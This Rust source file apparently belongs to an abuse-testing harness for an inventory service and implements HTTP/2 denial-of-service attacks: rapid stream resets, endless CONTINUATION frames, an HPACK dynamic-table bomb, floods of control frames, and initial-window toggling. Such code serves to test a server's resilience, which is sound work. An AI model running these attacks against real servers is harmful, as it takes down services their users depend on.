//! Attacks by frames and header blocks that are cheap to send, as fast as the server takes them.

use std::sync::Arc;

use anyhow::Result;
use inventory_sentinel::v1;
use prost::Message as _;
use tokio::task::yield_now;

use super::bodies::{GET_STOCK, RESERVE, get_an_answer};
use crate::abuse::{
    attacker::Attacker,
    frames::{self, MAX_PAYLOAD, flag, kind, setting},
    wire::Opening,
};

/// Bytes of a header that fills a frame.
pub(super) const WHOLE_FRAME: usize = MAX_PAYLOAD - 64;
/// Connections of a flood.
const CONNECTIONS: usize = 4;
/// Frames of one write.
const FRAMES_AT_ONCE: usize = 512;
/// Calls of one write of a rapid reset.
const CALLS_AT_ONCE: usize = 64;
/// Calls that are open while the window is toggled.
const TOGGLED_CALLS: usize = 20_000;
/// Bytes of the header that a header block repeats.
const BOMB_ENTRY: usize = 4_000;
/// Open streams of a flood on streams.
const STREAMS: usize = 100;

/// The calls that are reset.
#[derive(Clone, Copy)]
pub(super) enum Reset {
    /// Calls without a body.
    Headers,
    /// Calls with the start of a body.
    Bodies,
    /// Whole calls, on connections that had an answer before.
    Calls,
}

/// Opens calls and resets each at once.
pub(super) async fn rapid_reset(attacker: Arc<Attacker>, reset: Reset) -> Result<()> {
    attacker.crowd_and_hold(CONNECTIONS, move |attacker, _| reset_calls(attacker, reset)).await
}

/// The same from attackers that connect again each time that they are cut.
pub(super) async fn rapid_reset_reconnects(attacker: Arc<Attacker>) -> Result<()> {
    let act = |attacker: Arc<Attacker>, _| async move {
        while !attacker.is_over() {
            // It ends when it is cut.
            let _ = reset_calls(Arc::clone(&attacker), Reset::Headers).await;
            attacker.forget_ended();
        }
        Ok(())
    };
    attacker.crowd(CONNECTIONS, act).await;
    Ok(())
}

async fn reset_calls(attacker: Arc<Attacker>, reset: Reset) -> Result<()> {
    let wire = attacker.open(Opening::default()).await?;
    if let Reset::Calls = reset {
        get_an_answer(&attacker, &wire).await?;
    }
    let (reserve, get_stock) = (frames::call_block(RESERVE), frames::call_block(GET_STOCK));
    let namespace_id = attacker.namespace.clone();
    let get = v1::GetStockRequest { namespace_id: namespace_id.clone(), sku: "sku-0".into() };
    let get = frames::message(&get.encode_to_vec());
    let start = [&frames::prefix(1_000)[..], &[0; 100]].concat();
    let mut out = Vec::new();
    while !attacker.is_over() {
        out.clear();
        let mut body_bytes = 0;
        for call in 0..CALLS_AT_ONCE {
            let hold;
            let (block, message) = match reset {
                Reset::Headers => (&reserve, None),
                Reset::Bodies => (&reserve, Some((&start[..], false))),
                Reset::Calls if call % 2 == 0 => (&get_stock, Some((&get[..], true))),
                Reset::Calls => {
                    let request = v1::ReserveRequest {
                        namespace_id: namespace_id.clone(),
                        request_id: format!("reset-{}", attacker.unique()),
                        lines: vec![v1::Line { sku: "sku-0".into(), quantity: 1 }],
                        ..Default::default()
                    };
                    hold = frames::message(&request.encode_to_vec());
                    (&reserve, Some((&hold[..], true)))
                }
            };
            body_bytes += message.map_or(0, |(message, _)| message.len());
            let stream = attacker.call(&wire, &mut out, block, message);
            frames::reset(&mut out, stream);
        }
        // A client that exceeds its window would be cut for that.
        wire.wait_for_window(body_bytes).await?;
        wire.send(&out).await?;
    }
    Ok(())
}

/// A header block that never ends, in frames with a header of so many bytes each.
pub(super) async fn continuation(attacker: Arc<Attacker>, bytes: usize) -> Result<()> {
    let act = move |attacker: Arc<Attacker>, _| async move {
        let wire = attacker.open(Opening { acknowledges: false, ..Opening::default() }).await?;
        let mut out = Vec::new();
        frames::frame(&mut out, kind::HEADERS, flag::NONE, wire.new_stream(), &frames::call_block(RESERVE));
        wire.send(&out).await?;
        let mut part = Vec::new();
        if bytes > 0 {
            frames::literal(&mut part, b"x", &vec![b'a'; bytes]);
        }
        out.clear();
        for _ in 0..if bytes > 0 { 4 } else { FRAMES_AT_ONCE } {
            frames::frame(&mut out, kind::CONTINUATION, flag::NONE, 1, &part);
        }
        while !attacker.is_over() {
            wire.send(&out).await?;
        }
        Ok(())
    };
    attacker.crowd_and_hold(CONNECTIONS, act).await
}

/// Header blocks that name one long entry of the dynamic table thousands of times.
pub(super) async fn hpack_bomb(attacker: Arc<Attacker>) -> Result<()> {
    let act = |attacker: Arc<Attacker>, _| async move {
        let wire = attacker.open(Opening::default()).await?;
        let calls = CALLS_AT_ONCE.min(wire.max_streams().await? as usize);
        let mut first = frames::call_block(RESERVE);
        frames::indexed_literal(&mut first, b"x", &vec![b'a'; BOMB_ENTRY]);
        let mut bomb = frames::call_block(RESERVE);
        bomb.resize(MAX_PAYLOAD, frames::NEWEST_ENTRY);
        let mut out = Vec::new();
        attacker.call(&wire, &mut out, &first, None);
        wire.send(&out).await?;
        while !attacker.is_over() {
            out.clear();
            let streams: Vec<u32> = (1..calls).map(|_| attacker.call(&wire, &mut out, &bomb, None)).collect();
            wire.send(&out).await?;
            out.clear();
            streams.into_iter().for_each(|stream| frames::reset(&mut out, stream));
            wire.send(&out).await?;
        }
        Ok(())
    };
    attacker.crowd_and_hold(CONNECTIONS, act).await
}

/// Frames of one kind.
#[derive(Clone, Copy)]
pub(super) enum Flood {
    Ping,
    Settings,
    WindowUpdate,
    Priority,
    EmptyData,
    Unknown,
}

/// Frames of one kind without end; the answers to them are not read.
pub(super) async fn flood(attacker: Arc<Attacker>, flood: Flood) -> Result<()> {
    let act = move |attacker: Arc<Attacker>, _| async move {
        let wire = attacker.open(Opening::default()).await?;
        let calls = STREAMS.min(wire.max_streams().await? as usize);
        wire.stop_reading();
        let (block, mut out) = (frames::call_block(RESERVE), Vec::new());
        let streams: Vec<u32> = match flood {
            Flood::WindowUpdate | Flood::EmptyData => {
                (0..calls).map(|_| attacker.call(&wire, &mut out, &block, None)).collect()
            }
            _ => vec![1],
        };
        wire.send(&out).await?;
        out.clear();
        for &stream in streams.iter().cycle().take(FRAMES_AT_ONCE) {
            match flood {
                Flood::Ping => frames::frame(&mut out, kind::PING, flag::NONE, 0, &[0; 8]),
                Flood::Settings => frames::settings(&mut out, &[(setting::MAX_CONCURRENT_STREAMS, 100)]),
                Flood::WindowUpdate => frames::window_update(&mut out, stream, 1),
                Flood::Priority => frames::frame(&mut out, kind::PRIORITY, flag::NONE, stream, &[0, 0, 0, 0, 16]),
                Flood::EmptyData => frames::frame(&mut out, kind::DATA, flag::NONE, stream, &[]),
                Flood::Unknown => frames::frame(&mut out, kind::UNKNOWN, flag::NONE, 0, &[0; 16]),
            }
        }
        while !attacker.is_over() {
            wire.send(&out).await?;
        }
        Ok(())
    };
    attacker.crowd_and_hold(CONNECTIONS, act).await
}

/// Changes the first window of many open calls to and fro: the server has to change each of them.
pub(super) async fn window_toggle(attacker: Arc<Attacker>) -> Result<()> {
    let mut left = attacker.scaled(TOGGLED_CALLS);
    let mut wires = Vec::new();
    let block = frames::call_block(RESERVE);
    while left > 0 {
        let wire = attacker.open(Opening::default()).await?;
        let calls = left.min(wire.max_streams().await? as usize);
        let mut out = Vec::new();
        for _ in 0..calls {
            attacker.call(&wire, &mut out, &block, None);
        }
        wire.send(&out).await?;
        wires.push(wire);
        left -= calls;
    }
    let act = |attacker: Arc<Attacker>, member: usize| {
        let wire = Arc::clone(&wires[member]);
        async move {
            let mut out = Vec::new();
            for frame in 0..FRAMES_AT_ONCE {
                frames::settings(&mut out, &[(setting::INITIAL_WINDOW_SIZE, 1 + frame as u32 % 2)]);
            }
            while !attacker.is_over() {
                wire.send(&out).await?;
                yield_now().await;
            }
            Ok(())
        }
    };
    attacker.crowd_and_hold(wires.len(), act).await
}
